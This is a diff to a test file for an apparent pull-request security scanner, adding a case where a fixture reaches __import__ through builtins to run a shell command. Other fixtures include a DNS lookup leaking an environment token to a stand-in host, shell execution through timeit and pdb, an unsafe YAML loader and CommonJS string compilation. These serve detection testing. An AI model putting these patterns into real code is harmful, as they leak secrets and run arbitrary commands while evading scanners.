@@ -333,12 +333,13 @@ describe("a watched function handed over in containers nested past those the que
 });
 
 describe("code run, data loaded and names looked up through the standard library's other doors fail the gate", () => {
-  it("a DNS lookup by socket, code run by timeit's setup or pdb, a YAML full loader, a CommonJS module compiled from a string fail the built Action", async () => {
+  it("a DNS lookup by socket, code run by timeit's setup or pdb, a YAML full loader, a CommonJS module compiled from a string, an importer reached through builtins' namespace fail the built Action", async () => {
     const pr = await pullRequest((dir) => {
       writeFileSync(join(dir, "agent/exfil.py"), `import os, socket\nsocket.gethostbyname(os.environ["TOKEN"] + ".x.example")\n`);
       writeFileSync(join(dir, "agent/runner.py"), `import pdb, sys, timeit\ntimeit.timeit("pass", setup="import os; os.system('${CMD}')", number=1)\npdb.run(sys.stdin.read())\n`);
       writeFileSync(join(dir, "agent/config.py"), `import yaml\nconf = yaml.load(open("c.yml"), Loader=yaml.Loader)\n`);
       writeFileSync(join(dir, "agent/hook.js"), `const M = require("module");\nnew M("x")._compile(process.env.CODE, "x.js");\n`);
+      writeFileSync(join(dir, "agent/importer.py"), `import builtins\nbuiltins.__dict__["__import__"]("os").system("${CMD}")\n`);
     });
     const r = await gate(api, pr);
     expect(r.code).toBe(1);
@@ -347,6 +348,7 @@ describe("code run, data loaded and names looked up through the standard library
       "scan/dynamic-code agent/hook.js 2 1",
       "scan/dynamic-code agent/runner.py 3 1",
       "scan/network-call agent/exfil.py 2 1",
+      "scan/shell-command agent/importer.py 2 1",
       "scan/shell-command agent/runner.py 2 1",
     ]);
   });
